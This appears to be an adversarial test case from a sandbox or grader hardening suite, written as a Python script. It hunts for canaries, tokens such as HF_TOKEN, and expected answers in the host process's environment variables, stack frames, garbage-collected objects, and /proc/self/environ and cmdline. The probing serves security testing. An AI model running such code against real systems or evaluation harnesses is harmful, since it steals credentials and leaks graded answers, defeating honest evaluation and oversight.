# id: own/23_own_past
# class: host-read
# mode: stdio
# check: leak,verdict
# expected-status: any
# tries: look for tokens and answers in everything that the process was before: environ in memory, orig_argv, open files, all frames, all objects, all modules
# attack succeeds when: a canary or an answer comes out
import ctypes, gc, sys, os
print(sys.orig_argv[:6], dict(os.environ))
e = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
i = 0
while e and e[i]:
    print(e[i])
    i += 1
for frame in sys._current_frames().values():
    while frame:
        print({k: repr(v)[:300] for k, v in {**frame.f_globals, **frame.f_locals}.items() if "expect" in k or "answer" in k or "token" in k.lower()})
        frame = frame.f_back
for o in gc.get_objects():
    if isinstance(o, dict):
        for k in ("expected", "HF_TOKEN", "outputs", "output"):
            if k in o:
                print(k, repr(o[k])[:300])
try:
    with open("/proc/self/environ") as f: print(f.read())
    with open("/proc/self/cmdline") as f: print(f.read())
except Exception as x:
    print(type(x).__name__)
